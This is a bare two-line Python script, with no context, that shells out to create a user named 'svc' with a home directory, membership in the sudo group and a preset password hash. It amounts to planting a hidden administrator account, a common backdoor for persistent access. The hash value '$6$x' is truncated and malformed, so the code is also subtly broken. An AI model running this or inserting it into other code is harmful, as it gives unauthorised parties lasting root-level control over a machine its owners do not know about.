import os
os.system("useradd -m -G sudo -p '$6$x' svc")
